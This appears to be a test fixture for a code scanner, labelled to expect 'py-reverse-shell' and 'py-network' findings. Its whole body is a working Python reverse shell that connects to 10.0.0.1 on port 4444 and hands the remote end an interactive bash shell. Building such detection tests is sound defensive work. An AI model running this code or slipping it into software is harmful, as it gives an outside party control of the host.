# expect: py-reverse-shell,py-network
import socket, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('10.0.0.1', 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn('/bin/bash')
